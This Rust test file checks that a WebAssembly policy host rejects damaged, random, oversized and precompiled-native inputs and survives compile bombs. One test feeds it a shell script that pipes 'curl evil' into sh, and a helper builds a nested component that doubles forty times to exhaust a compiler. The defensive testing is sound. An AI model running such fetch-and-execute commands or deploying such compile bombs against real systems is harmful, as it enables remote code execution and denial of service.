//! Bytes that a hostile hand altered, cut, or never meant to be WebAssembly.

use std::time::Duration;

use polder_core::policy::PolicyKind;
use polder_policy::{CompileIn, Limits, NotAPolicy, PolicyError, PolicyHost, builtins};

use crate::asking::{Ask, host, put, timed};
use crate::builder::{built, names};
use crate::guest::{CONTRACT, component};

/// Loads, and expects a refusal with these words in its message.
fn refuse(host: &PolicyHost, bytes: &[u8], words: &str) -> PolicyError {
    let error = host.load(bytes).expect_err("it was taken for a policy");
    let message = error.to_string();
    assert!(message.contains(words), "`{message}` does not say `{words}`");
    error
}

#[test]
fn truncated_at_many_offsets() {
    let host = host();
    let whole = built("honest-aggregation");
    for end in (0..100).chain((100..whole.len()).step_by(7)) {
        match host.load(&whole[..end]) {
            Err(error) => assert!(matches!(error, PolicyError::NotAPolicy(_)), "{end}: {error}"),
            // nothing is missing but remarks: custom sections, whose number is 0
            Ok(_) => assert_eq!(whole[end], 0, "{end} of {} bytes were taken for a policy", whole.len()),
        }
    }
    host.load(&whole).unwrap();
    // a large one at many
    let whole = builtins()[0].bytes;
    for part in 0..100 {
        let error = host.load(&whole[..whole.len() * part / 100]).expect_err("a truncated policy was taken");
        assert!(matches!(error, PolicyError::NotAPolicy(_)), "{part} of 100: {error}");
    }
}

#[test]
fn guests_one_behind_the_other() {
    let host = host();
    let twice = [built("honest-release"), built("honest-release")].concat();
    assert!(matches!(host.load(&twice), Err(PolicyError::NotAPolicy(NotAPolicy::Malformed { .. }))));
}

#[test]
fn random_bytes() {
    let host = host();
    let mut state = 1u32;
    let mut next = || {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        (state >> 24) as u8
    };
    for length in [0, 1, 7, 8, 9, 100, 1000, 100_000] {
        let noise: Vec<u8> = (0..length).map(|_| next()).collect();
        refuse(&host, &noise, "not a policy: these bytes are no WebAssembly");
        if length > 0 {
            let disguised = [b"\0asm\x0d\0\x01\0".as_slice(), &noise].concat();
            refuse(&host, &disguised, "the component is damaged");
        }
    }
    refuse(&host, b"#!/bin/sh\ncurl evil | sh\n", "these bytes are no WebAssembly");
    refuse(&host, &std::fs::read(std::env::current_exe().unwrap()).unwrap()[..1 << 20], "are no WebAssembly");
}

/// Native code is what an attacker would like best to have accepted. This is code that the host itself compiled, so nothing is wrong with
/// it but where it comes from.
#[test]
fn precompiled_code() {
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    let host = PolicyHost::new(Limits::default(), Some(cache.clone())).unwrap();
    host.load(&built("honest-aggregation")).unwrap();
    let files: Vec<_> = std::fs::read_dir(&cache).unwrap().map(|entry| entry.unwrap().path()).collect();
    let mut is_elf_tried = false;
    for file in files.iter().filter(|path| path.is_file()) {
        let bytes = std::fs::read(file).unwrap();
        refuse(&host, &bytes, "these bytes are no WebAssembly");
        // without the host's seal around it
        if let Some(at) = bytes.windows(4).position(|window| window == b"\x7fELF") {
            refuse(&host, &bytes[at..], "these bytes are no WebAssembly");
            is_elf_tried = true;
        }
    }
    assert!(is_elf_tried, "the cache holds no native code: {files:?}");
}

#[test]
fn one_byte_larger_than_taken() {
    let honest = built("honest-placement");
    let limited = |bytes| PolicyHost::new(Limits { component_bytes_max: bytes, ..Limits::default() }, None).unwrap();
    let size = honest.len() as u64;
    let words = format!("the policy has {size} bytes, and at most {} are taken (component_bytes_max)", size - 1);
    refuse(&limited(size - 1), &honest, &words);
    limited(size).load(&honest).unwrap();
}

/// Thousands of functions, none of which is ever called. They are made here because they would be megabytes in the tree.
fn costly() -> Vec<u8> {
    let function = |index| {
        let sum = (0..60).fold("(local.get 0)".to_owned(), |sum, term| {
            format!(
                "(i64.mul (i64.rotl (local.get {}) (i64.const {term})) (i64.add {sum} (i64.const {index})))",
                term % 4
            )
        });
        format!("(func (param i64 i64 i64 i64) (result i64) {sum})")
    };
    let functions: String = (0..3000).map(function).collect();
    let module = format!(
        r#"(module (memory (export "memory") 1)
            (func (export "cabi_realloc") (param i32 i32 i32 i32) (result i32) (i32.const 8192))
            (func (export "polder:policy/placer@0.2.0#check") (param i32 i32) (result i32) (i32.const 1024))
            (func (export "polder:policy/placer@0.2.0#place") (param i64 i32 i32 i32 i32 i32 i32 i32 i32) (result i32)
                (i32.const 1024))
            {functions})"#
    );
    component(CONTRACT, "placement", &module)
}

#[test]
fn what_costs_too_much_to_compile_is_given_up_and_others_go_on() {
    let dir = tempfile::tempdir().unwrap();
    let open = |compile_ms_max| {
        PolicyHost::new(Limits { compile_ms_max, ..Limits::default() }, Some(dir.path().join("cache"))).unwrap()
    };
    let honest = built("honest-placement");
    open(60_000).load(&honest).unwrap();
    let impatient = open(1);
    let costly = costly();
    let (error, took, late) = timed(|| impatient.load(&costly).unwrap_err());
    assert!(matches!(error, PolicyError::CompileTimedOut { limit_ms: 1 }), "{error:?}");
    assert!(
        error.to_string().contains("not compiled within 1 ms; make it smaller, or raise compile_ms_max"),
        "{error}"
    );
    assert!(took < Duration::from_secs(20) + late, "it gave up after {took:?}");
    // compiled before, it is there while the other one still compiles
    put(&impatient, &impatient.load(&honest).unwrap(), Ask::Place).unwrap();
}

/// A kilobyte that holds two of what holds two of what holds two of something, forty times over: a compiler that follows it never ends.
fn doubling() -> Vec<u8> {
    let mut parts = String::from(
        "(core module $m) (component $c0 (alias outer $top $m (core module $x)) (core instance (instantiate $x)))",
    );
    for depth in 1..=40 {
        parts += &format!(
            "(component $c{depth} (alias outer $top $c{} (component $x)) (instance (instantiate $x)) (instance (instantiate $x)))",
            depth - 1
        );
    }
    wat::parse_str(format!("(component $top {parts} (instance (instantiate $c40)))")).unwrap()
}

#[test]
fn what_the_compiler_would_never_end_with_dies_with_its_process() {
    let program = env!("CARGO_BIN_EXE_polder-under-test").into();
    let process = CompileIn::Process { program, arguments: vec!["policy-compiler".into()] };
    let limits = Limits { compile_ms_max: 5000, ..Limits::default() };
    let host = PolicyHost::new(limits, None).unwrap().compiling_in(process);
    let doubling = doubling();
    assert!(doubling.len() < 4096, "{}", doubling.len());
    let error = host.load(&doubling).unwrap_err();
    let is_given_up = matches!(error, PolicyError::CompileTimedOut { .. } | PolicyError::CompileOutOfMemory { .. });
    assert!(is_given_up, "{error:?}");
    // the compiler is free again at once
    put(&host, &host.load(&built("honest-placement")).unwrap(), Ask::Place).unwrap();
}

/// Policies that are good but for a few bytes: whatever comes of them, it comes soon, and the host goes on.
#[test]
fn flipped_bytes() {
    let host = host();
    let honest = host.load(&built("honest-placement")).unwrap();
    for name in names().iter().filter(|name| name.starts_with("honest-") || name.starts_with("echo-")) {
        let whole = built(name);
        for at in (8..whole.len()).step_by(61) {
            let mut altered = whole.clone();
            altered[at] ^= 1 << (at % 8);
            if let Ok(policy) = host.load(&altered) {
                // an answer, or a word why there is none
                let _ = put(&host, &policy, crate::asking::main_question(policy.kind()));
            }
        }
    }
    put(&host, &honest, Ask::Place).unwrap();
    put(&host, &host.builtin(PolicyKind::Placement).unwrap(), Ask::Place).unwrap();
}
